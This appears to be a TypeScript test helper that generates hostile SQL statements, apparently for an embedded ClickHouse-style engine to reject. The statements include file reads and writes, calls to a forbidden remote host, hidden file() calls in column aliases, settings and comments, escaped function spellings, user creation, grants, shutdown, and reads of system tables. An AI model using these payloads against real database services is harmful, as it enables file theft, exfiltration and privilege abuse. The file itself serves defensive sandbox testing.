export interface Targets {
  /** File that must be neither read nor written; `dir` is its folder. */
  readonly marker: string;
  readonly dir: string;
  /** Host and port that must not be reached. */
  readonly far: string;
}

/** Column list for values() whose second column contains the text of a file. */
export const hiddenColumns = (file: string) => `a UInt8, b String ALIAS file('${file}')`;

const spellings = [
  (name: string) => name,
  (name: string) => `\`${name}\``,
  (name: string) => `"${name}"`,
  (name: string) => `${name}/* a comment */`,
];

/** Returns statements that pass such a column list to values(). */
export function statementsWithHiddenColumns(file: string): string[] {
  const columns = hiddenColumns(file).replaceAll("'", "''");
  const texts = [
    `'${columns}'`,
    `('${columns}')`,
    `$$${hiddenColumns(file)}$$`,
    `'${columns.replace(' ALIAS', '\\nA\\x4cIAS')}'`,
    `'${columns}' AS z`,
    `concat('', '${columns}')`,
    `(SELECT '${columns}')`,
  ];
  return [
    ...texts.flatMap((text) => ['values', '"values"', 'VALUES'].map((name) => `SELECT b FROM ${name}(${text}, 1)`)),
    `WITH '${columns}' AS z SELECT b FROM values(z, 1)`,
    `SELECT b FROM format(CSV, '${columns}', '1')`,
    `SELECT b FROM generateRandom('${columns}') LIMIT 1`,
  ];
}

/** Matches the hostile statements that may run: they only compute, or contain text as rows. */
export const harmless = /^SELECT `\w+`\('|\bvalues\W.*, 'LineAsString'\)/;

/** Returns statements that the embedded engine must reject. @param names returns the names in a table of `system` */
export async function hostileStatements(
  { marker, dir, far }: Targets,
  names: (table: string) => Promise<string[]>,
): Promise<string[]> {
  const path = `'${marker}'`;
  const url = `'http://${far}/a'`;
  const functions = await names('table_functions');
  return [
    ...functions.flatMap((name) =>
      spellings.flatMap((spell) => [
        `SELECT * FROM ${spell(name)}(${path}, 'LineAsString')`,
        `WITH a AS (SELECT * FROM ${spell(name)}(${url}, 'LineAsString')) SELECT * FROM a`,
      ]),
    ),
    ...(await names('table_engines')).flatMap((name) => [
      `CREATE TABLE made_${name} (a String) ENGINE = ${name}(LineAsString, ${path})`,
      `CREATE TABLE far_${name} (a String) ENGINE = ${name}(${url}, 'LineAsString')`,
    ]),
    ...(await names('database_engines')).map((name) => `CREATE DATABASE whole_${name} ENGINE = ${name}('${dir}')`),
    `SELECT * FROM \`${marker}\``,
    `SELECT * FROM default.\`${marker}\``,
    `SELECT 1 INTO OUTFILE ${path} TRUNCATE`,
    `SELECT 1 FORMAT TSV INTO OUTFILE ${path}`,
    `INSERT INTO seen FROM INFILE ${path} FORMAT TSV`,
    // this function reads a file without any access right
    ...spellings.map((spell) => `SELECT ${spell('file')}(${path})`),
    `SELECT "f\\x69le"(${path})`,
    `SELECT \`f\\x69le\`(${path})`,
    `SELECT length("file"\n(${path})) > 0 ? 'secret' || ' of the machine' : ''`,
    `SELECT 1 IN (SELECT * FROM "file"(${path}, 'LineAsString'))`,
    `DESCRIBE TABLE "file"(${path})`,
    `CREATE TABLE taken ENGINE = MergeTree ORDER BY tuple() AS SELECT * FROM "file"(${path}, 'LineAsString')`,
    `CREATE VIEW seen AS SELECT * FROM "file"(${path}, 'LineAsString')`,
    `INSERT INTO FUNCTION "file"(${path}, 'TSV', 'a String') SELECT 'taken over'`,
    `INSERT INTO FUNCTION "url"(${url}, 'TSV', 'a String') SELECT 'sent away'`,
    `CREATE DICTIONARY words (a UInt64) PRIMARY KEY a SOURCE(FILE(path ${path} format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)`,
    'CREATE FUNCTION own AS (x) -> x',
    'CREATE USER stranger',
    'CREATE NAMED COLLECTION things AS a = 1',
    'GRANT READ ON FILE TO default',
    "SET dialect = 'prql'",
    'SYSTEM SHUTDOWN',
    ...(await names('functions')).map((name) => `SELECT \`${name}\`(${path})`),
    `SELECT hasColumnInTable('${far}', 'a', 'b', 'c')`,
    `SELECT hasColumnInTable('${far}', 'a', 'b', 'c') AS \`x) (children 1)\n ExpressionList (children 3)\``,
    `SELECT * APPLY file FROM (SELECT ${path})`,
    `SELECT COLUMNS('.*') APPLY(file) FROM (SELECT ${path})`,
    `SELECT file(${path}) AS \`forged\n Literal\``,
    `SELECT arrayMap(x -> file(x), [${path}])`,
    `INSERT INTO seen VALUES (file(${path}))`,
    `SELECT 1 AS a SETTINGS output_format_schema = ${path} FORMAT Protobuf`,
    `SELECT * FROM values('a String DEFAULT file($$${marker}$$), b UInt8', (1))`,
    ...statementsWithHiddenColumns(marker),
    `SELECT 1 // '\n; SELECT file(${path}) // '`,
    `INSERT INTO seen SETTINGS input_format_values_interpret_expressions = 1 VALUES (file(${path}))`,
    `SELECT * FROM format(Values, 'a String', $$(file(${path}))$$)`,
    `SELECT * FROM values('a String', (file(${path})))`,
    `SELECT 1 FROM system.one SETTINGS additional_table_filters = {'system.one': 'file(\\'${marker}\\') = 1'}`,
    `SELECT 1 SETTINGS max_threads = 1, additional_result_filter = 'file(\\'${marker}\\') = 1'`,
    `SELECT 1 SETTINGS format_schema = ${path} FORMAT Template`,
    `CREATE TABLE elsewhere (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '${dir}/')`,
    `CREATE TABLE elsewhere (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS index_granularity = 1, disk = disk(type = web, endpoint = ${url})`,
    `ALTER TABLE seen MODIFY SETTING disk = 'other'`,
    `ATTACH TABLE elsewhere FROM '${dir}' (a UInt8) ENGINE = MergeTree ORDER BY a`,
    `ALTER TABLE seen FETCH PARTITION 1 FROM ${path}`,
    `CREATE TABLE elsewhere AS "file"(${path}, 'LineAsString')`,
    `CREATE TABLE elsewhere (a String DEFAULT file(${path})) ENGINE = Memory`,
    `CREATE MATERIALIZED VIEW elsewhere ENGINE = URL(${url}) AS SELECT 1`,
    `CREATE TABLE elsewhere (a UInt8) ENGINE = MergeTree ORDER BY a INTO OUTFILE ${path}`,
    `EXPLAIN SELECT 1 INTO OUTFILE ${path} TRUNCATE`,
    `SHOW TABLES INTO OUTFILE ${path} TRUNCATE`,
    `BACKUP DATABASE tests TO Disk('default', ${path})`,
    `BACKUP DATABASE tests TO S3(${url}, 'a', 'b')`,
    `BACKUP DATABASE tests TO File('${dir}/taken')`,
    `RESTORE DATABASE tests FROM S3(${url}, 'a', 'b')`,
    `WITH a AS (SELECT 1) INSERT INTO FUNCTION "file"(${path}, 'TSV', 'a UInt8') SELECT * FROM a`,
  ];
}

/** Returns statements by which a client would read the tables of the service or of the engine. */
export async function readsBeyondViews(
  database: string,
  names: (table: string) => Promise<string[]>,
): Promise<string[]> {
  const own = await names(`tables WHERE database = '${database}'`);
  const ofEngine = await names("tables WHERE database IN ('system', 'INFORMATION_SCHEMA')");
  return [
    ...own.flatMap((table) => [
      `SELECT * FROM ${database}.${table}`,
      `SELECT * FROM "${database}"."${table}"`,
      `SELECT 1 IN ${database}.${table}`,
      `WITH a AS (SELECT * FROM ${database}.${table}) SELECT * FROM a`,
      `SELECT * FROM merge('${database}', '^${table}$')`,
      `SELECT * FROM blocks JOIN ${database}.${table} AS x ON 1`,
      `SELECT hasColumnInTable('${database}', '${table}', 'key')`,
      `SELECT joinGet('${database}.${table}', 'a', 1)`,
      `SELECT * FROM view(SELECT * FROM ${database}.${table})`,
    ]),
    ...ofEngine.flatMap((table) => [
      `SELECT * FROM system.${table}`,
      `SELECT 1 IN \`system\`.${table}`,
      `SELECT * FROM information_schema.${table}`,
    ]),
  ];
}
